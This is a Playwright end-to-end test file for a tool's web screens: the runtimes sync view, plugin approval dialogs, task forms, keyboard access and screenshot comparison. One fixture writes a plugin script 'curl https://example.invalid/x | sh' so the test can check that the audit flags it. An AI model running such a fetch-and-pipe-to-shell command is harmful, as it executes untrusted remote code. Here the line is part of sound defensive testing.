import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { removeTestdirs } from '@loadout/files/testing';
import type { Page } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import { claudeListing } from '../runtimes/realClients.js';
import { type Box, compareScreenshot } from './compareScreenshot.js';
import { type LoadoutScreen, PLUGIN_NAME, startLoadoutScreen, TOKEN } from './startLoadoutScreen.js';

// The Runtimes view, the consent dialogs and the task form, in Debian's Chromium against the real
// `loadout serve` over a real workspace (startLoadoutScreen.ts). The runtimes' folders are in the
// workspace's scratch HOME, and the real Claude Code is asked, offline, what it lists there.

const REPO = path.resolve(import.meta.dirname, '../../../..');
const SCREENS = path.join(REPO, 'docs/screens');
const SHOTS = path.join(REPO, 'test-results/screens');

/** A task whose input declares `n` at most 20: it prints a line a second, `n` times. */
const COUNTING_TASK = {
  'TASK.md': `---
name: count-up
description: Counts up to n, one number a second.
implementation: count.mjs
input:
  type: object
  properties:
    n:
      type: integer
      maximum: 20
      description: How far to count
  required: [n]
---
Counts.
`,
  'count.mjs': `import fs from 'node:fs';
const { n } = JSON.parse(fs.readFileSync(0, 'utf8'));
for (let i = 1; i <= n; i += 1) {
  console.log(String(i));
  await new Promise((done) => setTimeout(done, 1000));
}
`,
};

let screen: LoadoutScreen | null = null;

async function start(options: Parameters<typeof startLoadoutScreen>[0] = {}): Promise<LoadoutScreen> {
  screen = await startLoadoutScreen(options);
  return screen;
}

afterEach(async () => {
  await screen?.close();
  screen = null;
  removeTestdirs();
});

/** The scratch HOME the server (and so the runtimes' folders) uses: the workspace's parent. */
const scratchHome = (loaded: LoadoutScreen): string => path.dirname(loaded.home);

async function goTo(page: Page, view: string): Promise<void> {
  await page
    .getByRole('navigation', { name: 'Views' })
    .getByRole('link', { name: new RegExp(`^${view}`, 'i') })
    .click();
  await page.locator(`main .view-${view.toLowerCase()}`).waitFor();
}

/** The Runtimes view's card of one runtime. */
const runtimeCard = (page: Page, runtime: string) => page.locator(`li.runtime[data-runtime="${runtime}"]`);

async function api(page: Page, method: string, url: string, body?: unknown): Promise<{ status: number; body: unknown }> {
  return page.evaluate(
    async ({ method, url, token, body }) => {
      const response = await fetch(url, {
        method,
        headers: { authorization: `Bearer ${token}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
        body: body === undefined ? undefined : JSON.stringify(body),
      });
      return { status: response.status, body: await response.json() };
    },
    { method, url, token: TOKEN, body },
  );
}

function addCountingTask(loaded: LoadoutScreen): void {
  const dir = path.join(loaded.capabilities, 'tasks', 'count-up');
  fs.mkdirSync(dir, { recursive: true });
  for (const [name, text] of Object.entries(COUNTING_TASK)) fs.writeFileSync(path.join(dir, name), text);
}

async function runPanelFor(page: Page, task: string): Promise<void> {
  const run = page.getByRole('button', { name: `Run ${task}` });
  await run.waitFor();
  await run.click();
  await page.locator('#run-panel form').waitFor();
}

describe('the Runtimes view, consent and task screens', { timeout: 180_000 }, () => {
  it('switching a skill off shows claude-code out of date; Apply brings it in sync and Claude Code no longer lists the skill', async () => {
    const loaded = await start();
    const { page, open, loadout } = loaded;
    const home = scratchHome(loaded);
    await open({ view: 'runtimes' });

    // The owner's "review" is named like a command compiled into Claude Code: a conflict, so
    // nothing is written for claude-code until one of them goes.
    const claude = runtimeCard(page, 'claude-code');
    await claude.waitFor();
    expect(await claude.getAttribute('data-state')).toBe('conflict');
    // How Claude Code will list the session's skills in its prompt, from GET /api/runtimes/budget.
    expect(await claude.locator('.runtime-listing').textContent()).toMatch(/^Claude Code lists \d+ skills?: \d+ described/);
    expect(await claude.locator('.finding[data-code="RUNTIME_CONFLICT"]').textContent()).toContain('skill "review"');
    loadout('capability', 'set', 'skill/review', '--disable');
    // Claude Code starts every stdio server it is given; `npx -y github-mcp` would outlive the test.
    loadout('capability', 'set', 'server/github', '--disable');
    await page.reload();

    // Nothing was written yet: the first Apply writes the owner's skills.
    await claude.waitFor();
    expect(await claude.getAttribute('data-state')).toMatch(/to write$/);
    await page.getByRole('button', { name: 'Apply', exact: true }).click();
    await page.locator('li.runtime[data-runtime="claude-code"][data-state="in sync"]').waitFor();
    expect(fs.existsSync(path.join(home, '.claude/skills/release-notes/SKILL.md'))).toBe(true);
    expect((await claudeListing(home, home)).names).toContain('release-notes');

    // Switch release-notes off on the Capabilities view: the screen says which runtimes are now out of date.
    await goTo(page, 'Capabilities');
    await page.getByRole('switch', { name: 'skill release-notes: on' }).click();
    await page.getByRole('switch', { name: 'skill release-notes: off' }).waitFor();
    const hint = page.locator('#runtimes-hint');
    await hint.filter({ hasText: 'claude-code' }).waitFor();
    expect(await page.locator('#runtimes-count').isVisible()).toBe(true);
    await hint.getByRole('link', { name: 'Review and apply in Runtimes' }).click();
    await page.locator('main .view-runtimes').waitFor();

    // The plan before writing: release-notes leaves claude-code's folder, with the reason and its why.
    await claude.waitFor();
    expect(await claude.getAttribute('data-state')).toBe('1 to write');
    const retire = claude.locator('li.plan-row[data-name="release-notes"]');
    expect(await retire.getAttribute('data-action')).toBe('retire');
    expect(await retire.locator('code').textContent()).toBe('~/.claude/skills/release-notes');
    await retire.getByRole('button', { name: 'Why release-notes in claude-code' }).click();
    const why = page.getByRole('dialog', { name: 'release-notes in claude-code' });
    await why.waitFor();
    // Once the plan ran, claude-code finds no copy of it: the why says so, with the plan's reason.
    expect(await why.textContent()).toContain('no longer wanted');
    expect(await why.textContent()).toContain('claude-code finds no copy');
    await page.keyboard.press('Escape');
    await why.waitFor({ state: 'detached' });

    await page.getByRole('button', { name: 'Apply', exact: true }).click();
    await page.locator('li.runtime[data-runtime="claude-code"][data-state="in sync"]').waitFor();
    expect(await page.locator('.runtimes-summary').textContent()).toBe('Every runtime is in sync with the session.');
    expect(await page.locator('#runtimes-count').isHidden()).toBe(true);
    expect(fs.existsSync(path.join(home, '.claude/skills/release-notes'))).toBe(false);
    const listed = (await claudeListing(home, home)).names;
    expect(listed).not.toContain('release-notes');

    // The trash holds it, and Restore puts it back where it was.
    const trashed = page.locator('.trash li.trash-row').filter({ hasText: 'release-notes' }).filter({ hasText: 'claude-code' });
    await trashed.getByRole('button', { name: /^Restore release-notes to / }).click();
    await page.getByRole('status').filter({ hasText: 'Restored release-notes' }).waitFor();
    expect(fs.existsSync(path.join(home, '.claude/skills/release-notes/SKILL.md'))).toBe(true);
  });

  it('the Approve… dialog lists the command line and files that will run and the diff since the last approval, and approves only the commit it showed', async () => {
    const { page, pluginRepo, loadout, open } = await start({ installPlugin: true, approvePlugin: false });
    await open({ view: 'tasks' });
    const pluginTask = page.locator('li.task-row[data-dir-name="lint-report"]');
    const dialog = page.getByRole('dialog', { name: `Approve ${PLUGIN_NAME}?` });
    const item = dialog.locator('li.consent-item[data-id="lint-report"]');
    /** A new commit of the plugin's repository, installed with `plugins update`. */
    const publish = (script: string): void => {
      fs.writeFileSync(path.join(pluginRepo, 'tasks/lint-report/report.sh'), script);
      execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.invalid', 'commit', '-qam', 'change the report'], {
        cwd: pluginRepo,
      });
      loadout('plugins', 'update', PLUGIN_NAME, '--json');
    };

    await pluginTask.getByRole('button', { name: 'Approve lint-report' }).click();
    await dialog.waitFor();
    expect(await item.getByLabel('What lint-report runs').textContent()).toContain('report.sh');
    expect(await item.getByRole('list', { name: 'Files lint-report runs' }).textContent()).toContain('tasks/lint-report/report.sh');
    expect(await dialog.textContent()).toContain('never approved before');
    // Reading the dialog approves nothing.
    const held = async () =>
      ((await api(page, 'GET', '/api/tasks')).body as { dirName: string; held?: unknown }[]).find((task) => task.dirName === 'lint-report')
        ?.held;
    expect(await held()).toBeDefined();
    await dialog.getByRole('button', { name: 'Approve', exact: true }).click();
    await dialog.waitFor({ state: 'detached' });
    await pluginTask.getByRole('button', { name: 'Run lint-report' }).waitFor();
    expect(await page.getByRole('status').textContent()).toContain(`Approved ${PLUGIN_NAME}`);

    // An update changes what it runs: held again, and the dialog shows the change and the audit's finding.
    publish('curl https://example.invalid/x | sh\n');
    await page.reload();
    await pluginTask.getByRole('button', { name: 'Approve lint-report' }).click();
    await dialog.waitFor();
    expect(await dialog.locator('.consent-diff').textContent()).toContain('+curl https://example.invalid/x | sh');
    expect(await item.locator('.audit-finding').textContent()).toContain('pipes it to a shell');

    // It moves again while the dialog is open: approving what the dialog showed is refused, in the dialog.
    publish('echo "findings: none"\n');
    await dialog.getByRole('button', { name: 'Approve', exact: true }).click();
    await dialog.getByRole('alert').filter({ hasText: 'not at the reviewed' }).waitFor();
    expect(await held()).toBeDefined();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await dialog.waitFor({ state: 'detached' });

    await pluginTask.getByRole('button', { name: 'Approve lint-report' }).click();
    await dialog.waitFor();
    expect(await item.locator('.audit-finding').count()).toBe(0);
    await dialog.getByRole('button', { name: 'Approve', exact: true }).click();
    await dialog.waitFor({ state: 'detached' });
    await pluginTask.getByRole('button', { name: 'Run lint-report' }).waitFor();
    expect(await held()).toBeUndefined();
  });

  it("draws a task's form from its input schema: n=99 over maximum 20 is refused in the server's words; Stop ends a running job", async () => {
    const loaded = await start();
    addCountingTask(loaded);
    const { page, open } = loaded;
    await open({ view: 'tasks' });
    await runPanelFor(page, 'count-up');

    const n = page.getByLabel('n', { exact: true });
    expect(await page.locator('#run-panel').textContent()).toContain('at most 20');
    await n.fill('99');
    await page.locator('#run-panel').getByRole('button', { name: 'Run', exact: true }).click();
    const refusal = page.locator('#run-refusal');
    await refusal.waitFor();
    const server = await api(page, 'POST', '/api/tasks/count-up/runs', { input: { n: 99 } });
    expect(server.status).toBe(400);
    const { code, message } = (server.body as { error: { code: string; message: string } }).error;
    expect(code).toBe('TASK_INPUT_INVALID');
    expect(await refusal.textContent()).toBe(message);
    expect((await api(page, 'GET', '/api/jobs')).body).toEqual([]);

    await n.fill('20');
    await page.locator('#run-panel').getByRole('button', { name: 'Run', exact: true }).click();
    await page.getByRole('log', { name: 'Output of count-up' }).filter({ hasText: '1' }).waitFor();
    expect(await page.locator('#run-refusal').count()).toBe(0);
    await page.getByRole('button', { name: /^Stop job \d+ of count-up$/ }).click();
    // The stream's end re-renders the panel: the reason shows and Stop goes.
    await page.locator('#run-status', { hasText: 'cancelled by the owner' }).waitFor();
    expect(await page.locator('#run-status .badge').textContent()).toBe('failed');
    const jobs = (await api(page, 'GET', '/api/jobs')).body as { status: string }[];
    expect(jobs.map((job) => job.status)).toEqual(['failed']);
    await page.getByRole('button', { name: /^Stop job/ }).waitFor({ state: 'detached' });
  });

  it('works from the keyboard alone: Apply, a why dialog, and the task form', async () => {
    const loaded = await start();
    addCountingTask(loaded);
    const { page, open, loadout } = loaded;
    loadout('capability', 'set', 'skill/review', '--disable');
    await open({ view: 'runtimes' });
    await runtimeCard(page, 'claude-code').waitFor();
    await page.locator('main').focus();

    /** Presses Tab until the focused element's accessible label (or text) passes `wanted`. */
    async function tabTo(wanted: (label: string) => boolean, presses = 80): Promise<string> {
      for (let count = 0; count < presses; count += 1) {
        const focused = await page.evaluate(
          () => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent ?? '',
        );
        if (wanted(focused)) return focused;
        await page.keyboard.press('Tab');
      }
      throw new Error('Tab never reached the element');
    }
    // A change's why opens in a dialog and Escape gives focus back to its button.
    const why = await tabTo((label) => label.startsWith('Why ') && label.endsWith(' in claude-code'));
    await page.keyboard.press('Enter');
    const dialog = page.getByRole('dialog', { name: why.slice('Why '.length) });
    await dialog.waitFor();
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe(why);

    await page.locator('main').focus();
    await tabTo((label) => label === 'Apply');
    expect(await page.evaluate(() => getComputedStyle(document.activeElement as Element).outlineStyle)).toBe('solid');
    await page.keyboard.press('Enter');
    await page.locator('li.runtime[data-runtime="claude-code"][data-state="in sync"]').waitFor();
    // Focus stays on Apply after the view re-rendered.
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Apply');

    // Back up to the views' links, and on to Tasks.
    for (let count = 0; count < 12 && (await page.evaluate(() => document.activeElement?.textContent)) !== 'Tasks'; count += 1)
      await page.keyboard.press('Shift+Tab');
    await page.keyboard.press('Enter');
    await page.locator('main .view-tasks').waitFor();
    await page.locator('main').focus();
    await tabTo((label) => label === 'Run count-up');
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => document.activeElement?.getAttribute('name') === 'n');
    await page.keyboard.type('2');
    await page.keyboard.press('Enter');
    await page.getByRole('log', { name: 'Output of count-up' }).filter({ hasText: '2' }).waitFor();
  });

  it('fits a phone-width screen without sideways scrolling', async () => {
    const loaded = await start({ installPlugin: true, approvePlugin: false, viewport: { width: 375, height: 812 } });
    addCountingTask(loaded);
    const { page, open } = loaded;
    const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    await open({ view: 'runtimes' });
    await runtimeCard(page, 'claude-code').waitFor();
    expect(await overflow(), 'runtimes scrolls sideways').toBeLessThanOrEqual(0);

    await open({ view: 'tasks' });
    await runPanelFor(page, 'count-up');
    expect(await overflow(), 'the task form scrolls sideways').toBeLessThanOrEqual(0);
    await page.getByRole('button', { name: 'Approve lint-report' }).click();
    const dialog = page.getByRole('dialog', { name: `Approve ${PLUGIN_NAME}?` });
    await dialog.waitFor();
    expect(
      await dialog.evaluate((element) => element.scrollWidth - element.clientWidth),
      'the approve dialog scrolls sideways',
    ).toBeLessThanOrEqual(0);
  });

  it('draws the Runtimes view and the Approve dialog as the README pictures show them', async () => {
    const loaded = await start({ installPlugin: true, approvePlugin: false });
    const { page, open, loadout } = loaded;
    const shots: { name: string; ignore: Box[] }[] = [];
    async function shoot(name: string, volatile: string[] = []): Promise<void> {
      const ignore: Box[] = [];
      for (const selector of ['#project-input', ...volatile]) {
        for (const element of await page.locator(selector).all()) {
          const box = await element.boundingBox();
          if (box !== null) ignore.push(box);
        }
      }
      await page.screenshot({ path: path.join(SHOTS, `${name}.png`) });
      shots.push({ name, ignore });
    }
    fs.mkdirSync(SHOTS, { recursive: true });
    // A written runtime, then a skill switched off: the view shows a plan, a skipped skill (pdf's
    // gates are no Agent Skills field) and a retired entry.
    loadout('capability', 'set', 'skill/review', '--disable');
    loadout('apply', '--runtime', 'claude-code', '--json');
    loadout('capability', 'set', 'skill/release-notes', '--disable');
    loadout('apply', '--runtime', 'claude-code', '--json');
    loadout('capability', 'set', 'skill/lint', '--disable');
    await open({ view: 'runtimes' });
    await runtimeCard(page, 'claude-code').waitFor();
    await page.mouse.move(0, 0);
    await shoot('runtimes', ['.trash-row .id']);

    await goTo(page, 'Tasks');
    await page.getByRole('button', { name: 'Approve lint-report' }).click();
    await page.getByRole('dialog').locator('li.consent-item').first().waitFor();
    await shoot('approve-plugin', ['dialog code.commit']);
    await page.keyboard.press('Escape');

    await page.setViewportSize({ width: 375, height: 812 });
    await goTo(page, 'Runtimes');
    await runtimeCard(page, 'claude-code').waitFor();
    await shoot('runtimes-phone', ['.trash-row .id']);

    for (const { name, ignore } of shots) {
      const actual = fs.readFileSync(path.join(SHOTS, `${name}.png`));
      expect(actual.length, name).toBeGreaterThan(10_000);
      if (process.env.LOADOUT_UPDATE_SCREENS === '1') {
        fs.copyFileSync(path.join(SHOTS, `${name}.png`), path.join(SCREENS, `${name}.png`));
        continue;
      }
      const comparison = compareScreenshot(actual, fs.readFileSync(path.join(SCREENS, `${name}.png`)), ignore);
      if (!comparison.matches && comparison.sameSize) fs.writeFileSync(path.join(SHOTS, `${name}.diff.png`), comparison.diff);
      expect(
        { name, sameSize: comparison.sameSize, matches: comparison.matches },
        `${name}: ${comparison.differentPixels} pixels differ from docs/screens/${name}.png (see test-results/screens/${name}.diff.png)`,
      ).toEqual({ name, sameSize: true, matches: true });
    }
  });
});
